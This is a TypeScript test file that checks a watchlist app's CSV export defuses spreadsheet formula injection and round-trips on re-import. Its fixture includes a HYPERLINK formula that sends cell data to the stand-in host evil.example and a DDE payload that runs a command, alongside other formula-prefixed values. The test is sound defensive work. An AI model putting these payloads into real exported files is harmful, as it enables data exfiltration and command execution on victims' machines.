import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Client } from '../../test/test-app.ts'
import { createTestApp, type TestApp } from '../../test/test-app.ts'
import { engines } from '../../test/test-db.ts'
import { addPerson, createList, person } from './screening.testing.ts'

const upload = (c: Client, listId: string, body: string) =>
  c.request('POST', `/api/watchlists/${listId}/import?format=csv&fileName=export.csv`, body, {
    'content-type': 'text/csv',
  })

/** What a spreadsheet would run: a cell starting with one of these. */
const FORMULA = /^[=+\-@\t\r]/

describe.each(engines())('the alert-list CSV export on %s', (engine) => {
  let t: TestApp
  let investigator: Client
  beforeAll(async () => {
    t = await createTestApp(engine)
    investigator = await t.signIn('investigator')
  })
  afterAll(() => t.close())

  const hostile = [
    { externalId: '=HYPERLINK("http://evil.example/?d="&A1,"Open")', names: ['=HYPERLINK("x","y")'] },
    { externalId: 'cmd-1', names: ['Sok Dara'], handling: "=cmd|' /C calc'!A0" },
    { externalId: '@SUM(A1:A9)', names: ['@SUM(A1:A9)'], source: '+SUM(A1:A9)' },
    { externalId: '+SUM(1,2)', names: ['-2+3', "'=already quoted"], source: "'apostrophe first" },
    {
      externalId: 'multi-1',
      names: ['ស្រីលក្ខណ៍ "ចាន់", ជា', 'Chan, "Sreyleak"'],
      handling: 'first line\r\nsecond\tline, with "quotes"\n=third line',
      source: 'NPC, warrant "2026/7"',
    },
  ]

  async function entries(listId: string) {
    const rows = await t.store.db
      .selectFrom('watchlist_persons')
      .select(['external_id', 'names', 'source', 'handling', 'birth_date', 'nationality', 'category'])
      .where('list_id', '=', listId)
      .where('removed_at', 'is', null)
      .orderBy('external_id')
      .execute()
    return rows
  }

  it('defuses every formula in the file, and re-imports to exactly the same list', async () => {
    const list = await createList(investigator, { kind: 'persons' })
    for (const h of hostile) await addPerson(investigator, list.id, person(h))
    const exported = await investigator.request('GET', `/api/watchlists/${list.id}/export.csv`)
    expect(exported.statusCode).toBe(200)
    const cells = (parse(exported.body, { relax_column_count: true }) as string[][]).flat()
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([])
    expect(exported.body).toContain(`"'=HYPERLINK(""x"",""y"")`)

    const copy = await createList(investigator, { kind: 'persons' })
    const into = await upload(investigator, copy.id, exported.body)
    expect(into.statusCode, into.body).toBe(200)
    expect(into.json(), into.body).toMatchObject({ added: hostile.length })
    expect(await entries(copy.id)).toEqual(await entries(list.id))

    const again = await upload(investigator, list.id, exported.body)
    expect(again.json()).toMatchObject({ unchanged: hostile.length, changed: 0, added: 0, removed: 0 })
    const stored = await entries(list.id)
    expect(stored.find((e) => e.external_id === 'multi-1')?.handling).toBe(hostile[4]!.handling)
    expect(stored.find((e) => e.external_id === '+SUM(1,2)')?.names).toEqual(hostile[3]!.names)
  })
})
